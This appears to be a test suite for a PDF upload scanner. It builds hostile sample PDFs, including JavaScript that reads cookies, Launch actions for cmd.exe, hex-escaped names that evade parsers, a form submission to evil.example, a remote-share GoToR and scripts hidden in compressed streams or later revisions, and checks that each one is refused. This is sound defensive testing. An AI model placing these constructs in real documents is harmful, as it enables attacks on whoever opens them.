import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { pdfOfSize, reportPdf } from '../../../test/fixtures/uploadFiles';
import { inspectUpload } from './inspectUpload';

const ACTIVE = 'The PDF file contains scripts or embedded programs.';

const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

/** A classic PDF (header, objects numbered from 1, an xref table with true offsets, trailer), as simple tools write it. */
function classicPdf(objects: string[], options: { prefix?: string; trailer?: string; version?: string } = {}): Buffer {
  let text = `%PDF-${options.version ?? '1.4'}\n%\u00e2\u00e3\u00cf\u00d3\n${options.prefix ?? ''}`;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** One page; `catalog` and `page` add entries to those dictionaries, `extra` are objects 4, 5, …. */
function onePage(parts: { catalog?: string; page?: string; extra?: string[] } = {}, options?: Parameters<typeof classicPdf>[1]): Buffer {
  return classicPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${parts.page ?? ''} >>`,
      ...(parts.extra ?? []),
    ],
    options,
  );
}

/** A later revision appended to a file, as an editor saves incrementally: new objects, an xref section, a trailer with /Prev. */
function appendRevision(base: Buffer, objects: Record<number, string>): Buffer {
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(latin1(base))![1]);
  const size = Number(/\/Size (\d+)/.exec(latin1(base))![1]);
  let text = latin1(base);
  let xref = 'xref\n0 1\n0000000000 65535 f \n';
  for (const [num, body] of Object.entries(objects)) {
    xref += `${num} 1\n${String(Buffer.byteLength(text, 'latin1')).padStart(10, '0')} 00000 n \n`;
    text += `${num} 0 obj\n${body}\nendobj\n`;
  }
  const start = Buffer.byteLength(text, 'latin1');
  const newSize = Math.max(size, ...Object.keys(objects).map((n) => Number(n) + 1));
  text += `${xref}trailer\n<< /Size ${newSize} /Root 1 0 R /Prev ${prev} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A file written by pdf-lib (PDF 1.7, cross-reference stream, objects compressed in object streams), with `edit` applied first. */
async function pdfLibFile(edit: (doc: PDFDocument) => void = () => {}, useObjectStreams = true): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Council activity report', { x: 20, y: 150, size: 16, font: await doc.embedFont(StandardFonts.Helvetica) });
  edit(doc);
  return doc.save({ useObjectStreams });
}

const jsAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';

const hostile: [string, () => Uint8Array | Promise<Uint8Array>, string][] = [
  ['an OpenAction running JavaScript', () => onePage({ catalog: `/OpenAction ${jsAction}` }), ACTIVE],
  ['an OpenAction referring to a JavaScript action object', () => onePage({ catalog: '/OpenAction 4 0 R', extra: [jsAction] }), ACTIVE],
  ['/J#61vaScript and /J#53 (name escapes)', () => onePage({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }), ACTIVE],
  ['/#4aava#53cript in lower-case hex (pdf-lib decodes upper case only)', () => onePage({ catalog: '/OpenAction << /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>' }), ACTIVE],
  ['/L#61unch of a program', () => onePage({ catalog: '/OpenAction << /S /L#61unch /F (calc.exe) >>' }), ACTIVE],
  ['a Launch with Windows parameters', () => onePage({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }), ACTIVE],
  ['a JavaScript name tree', () => onePage({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', extra: [jsAction] }), ACTIVE],
  ['a JavaScript name tree spelled /#4aava#53cript (only the names decide here)', () => onePage({ catalog: '/Names << /#4aava#53cript << /Names [(a) 4 0 R] >> >>', extra: ['<< /#53 /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>'] }), ACTIVE],
  ['a JavaScript action whose script is a stream', () => onePage({ catalog: '/OpenAction << /S /JavaScript /JS 4 0 R >>', extra: ['<< /Length 12 >>\nstream\napp.alert(1)\nendstream'] }), ACTIVE],
  ['a page AA (open) running JavaScript', () => onePage({ page: `/AA << /O ${jsAction} >>` }), ACTIVE],
  ['an annotation AA (mouse enter) running JavaScript', () => onePage({ page: '/Annots [4 0 R]', extra: [`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /AA << /E ${jsAction} >> >>`] }), ACTIVE],
  ['a link that launches a file', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (evil.exe) >> >>'] }), ACTIVE],
  ['a link to a javascript: URI', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'] }), ACTIVE],
  ['a GoToR opening another file', () => onePage({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>' }), ACTIVE],
  ['a SubmitForm sending the form away', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 50 50] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>'] }), ACTIVE],
  ['an ImportData', () => onePage({ catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' }), ACTIVE],
  ['an EmbeddedFiles name tree', () => onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', extra: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }), ACTIVE],
  ['a FileAttachment annotation', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>'] }), ACTIVE],
  ['a RichMedia annotation', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>'] }), ACTIVE],
  ['XFA in the AcroForm', () => onePage({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', extra: ['<< /Length 7 >>\nstream\n<xdp/>\nendstream'] }), ACTIVE],
  ['a Sound action', () => onePage({ catalog: '/OpenAction << /S /Sound /Sound 4 0 R >>', extra: ['<< /Type /Sound /R 8000 /Length 0 >>\nstream\n\nendstream'] }), ACTIVE],
  ['a Movie annotation', () => onePage({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (clip.mov) >> >>'] }), ACTIVE],
  ['a Rendition action', () => onePage({ catalog: '/OpenAction << /S /Rendition /OP 0 >>' }), ACTIVE],
  ['a harmless GoTo chained (Next) to JavaScript', () => onePage({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${jsAction} >>` }), ACTIVE],
  ['an unreferenced JavaScript action object', () => onePage({ extra: [jsAction] }), ACTIVE],
  [
    'JavaScript compressed in an object stream (PDF 1.5 cross-reference stream)',
    async () => {
      const bytes = await pdfLibFile((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))));
      // The proof that the action is only inside a compressed stream: the file's bytes never spell it.
      expect(latin1(bytes)).toContain('/ObjStm');
      expect(latin1(bytes)).toContain('/XRef');
      expect(latin1(bytes)).not.toContain('JavaScript');
      return bytes;
    },
    ACTIVE,
  ],
  [
    'a Launch compressed in an object stream on a page AA',
    async () => {
      const bytes = await pdfLibFile((doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'Launch', F: PDFString.of('calc.exe') } })));
      expect(latin1(bytes)).not.toContain('Launch');
      return bytes;
    },
    ACTIVE,
  ],
  ['an incremental update that adds JavaScript after a clean first revision', () => appendRevision(reportPdf, { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', 6: jsAction }), ACTIVE],
  ['an action an older revision defines and a later one replaces', () => onePage({ extra: ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'] }, { prefix: `4 0 obj\n${jsAction}\nendobj\n` }), ACTIVE],
  ['an object hidden inside another stream’s data', () => onePage({ extra: [`<< /Length 63 >>\nstream\n7 0 obj ${jsAction.slice(0, 40)} >> endobj\nendstream`] }), 'The PDF file is damaged.'],
  ['encryption', () => onePage({}, { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >> /ID [<01> <01>]' }), 'The PDF file is encrypted.'],
  ['a truncated end', () => reportPdf.subarray(0, reportPdf.length - 40), 'The PDF file is incomplete.'],
  ['no catalog at all', () => Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'), 'The PDF file is damaged.'],
];

describe('hostile PDFs', () => {
  it('make a corpus of at least 20 cases', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(20);
  });

  it.each(hostile)('refuses %s', async (_what, build, reason) => {
    expect(await inspectUpload(await build(), 'attachment')).toEqual({ ok: false, reason });
  });
});

describe('PDFs as tools write them', () => {
  it('accepts the demo report (a hand-written xref table, as minimal producers write)', async () => {
    expect(await inspectUpload(reportPdf, 'attachment')).toEqual({ ok: true, kind: 'pdf', bytes: reportPdf.length, width: null, height: null });
  });

  it('accepts pdf-lib’s output, with object streams and without', async () => {
    for (const streams of [true, false]) {
      expect(await inspectUpload(await pdfLibFile(() => {}, streams), 'attachment')).toMatchObject({ ok: true, kind: 'pdf' });
    }
  });

  it('accepts a tagged document with links, a start view and page labels (actions a report uses; /S elsewhere is not an action)', async () => {
    const tagged = onePage({
      catalog:
        '/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /S /D >>] >> /MarkInfo << /Marked true >> /StructTreeRoot 4 0 R /Outlines 6 0 R',
      page: '/Group << /S /Transparency /CS /DeviceRGB >> /Annots [5 0 R] /Trans << /S /R >>',
      extra: [
        '<< /Type /StructTreeRoot /K [<< /Type /StructElem /S /P /P 4 0 R >>] >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /BS << /S /S /W 0 >> /A << /S /URI /URI (https://kaia.io/council) >> >>',
        '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
        '<< /Title (Start) /Parent 6 0 R /A << /Type /Action /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >> >>',
      ],
    });
    expect(await inspectUpload(tagged, 'attachment')).toMatchObject({ ok: true, kind: 'pdf' });
  });

  it('accepts an incremental update that only edits text', async () => {
    const edited = appendRevision(reportPdf, { 4: '<< /Length 44 >>\nstream\nBT /F1 22 Tf 72 760 Td (Edited report) Tj ET\nendstream' });
    expect(await inspectUpload(edited, 'attachment')).toMatchObject({ ok: true, kind: 'pdf' });
  });

  // Its time is a benchmark row (scripts/bench/uploadInspection.ts), not a timed test that flakes on a busy machine.
  it('reads a 10 MB file to the end', async () => {
    expect(await inspectUpload(pdfOfSize(10 * 1024 * 1024), 'attachment')).toMatchObject({ ok: true, kind: 'pdf' });
  });
});
